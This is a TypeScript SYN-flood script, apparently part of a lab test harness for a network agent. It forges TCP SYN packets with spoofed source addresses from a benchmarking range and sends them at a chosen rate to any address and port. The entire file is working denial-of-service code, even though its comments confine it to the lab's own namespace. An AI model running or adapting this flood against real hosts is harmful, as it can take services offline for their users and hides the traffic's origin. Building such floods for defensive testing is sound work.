// Begins TCP connections that nobody goes on with, each from another forged address, so many a second and for so long.
//
//   node syn-flood.ts INTERFACE HARDWARE-ADDRESS ADDRESS PORT RATE SECONDS
//
// Run inside a network namespace of the lab's own. Prints "flooding" at the beginning, "sent N" at the end.
import { setTimeout as sleep } from 'node:timers/promises';
import { concat, u16, u32 } from '../../agent/test/packets.ts';
import { FrameSender } from './frame-sender.ts';

const [interfaceName = '', hardware = '', address = '', port = '', rate = '', seconds = ''] = process.argv.slice(2);
const target = Uint8Array.from(address.split('.'), Number);
const link = concat(Buffer.from(hardware.replaceAll(':', ''), 'hex'), [2, 0, 0, 0, 0, 1], u16(0x0800));

/** RFC 1071. */
function checksum(bytes: Uint8Array): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += (bytes[at]! << 8) | (bytes[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

function withChecksum(bytes: Uint8Array, at: number, over = bytes): Uint8Array {
  const sum = checksum(over);
  bytes.set(u16(sum), at);
  return bytes;
}

/** The `index`-th of 198.18.0.0/15, which is for tests (RFC 2544). */
function syn(index: number): Uint8Array {
  const source = Uint8Array.of(198, 18 + ((index >> 16) & 1), (index >> 8) & 255, index & 255);
  const segment = concat(u16(1_024 + (index % 60_000)), u16(Number(port)), u32(index), u32(0), [0x50, 2], u16(65_535));
  const whole = concat(segment, u32(0));
  const pseudoHeader = concat(source, target, [0, 6], u16(whole.length), whole);
  const head = concat([0x45, 0], u16(20 + whole.length), u32(0), [64, 6], u16(0), source, target);
  return concat(link, withChecksum(head, 10), withChecksum(whole, 16, pseudoHeader));
}

using sender = new FrameSender(interfaceName);
const most = Number(rate) * Number(seconds);
const began = performance.now();
console.log('flooding');
let sent = 0;
while (sent < most) {
  const due = Math.min(most, ((performance.now() - began) * Number(rate)) / 1_000);
  for (; sent < due; sent++) sender.send(syn(sent));
  await sleep(5);
}
console.log(`sent ${sent}`);
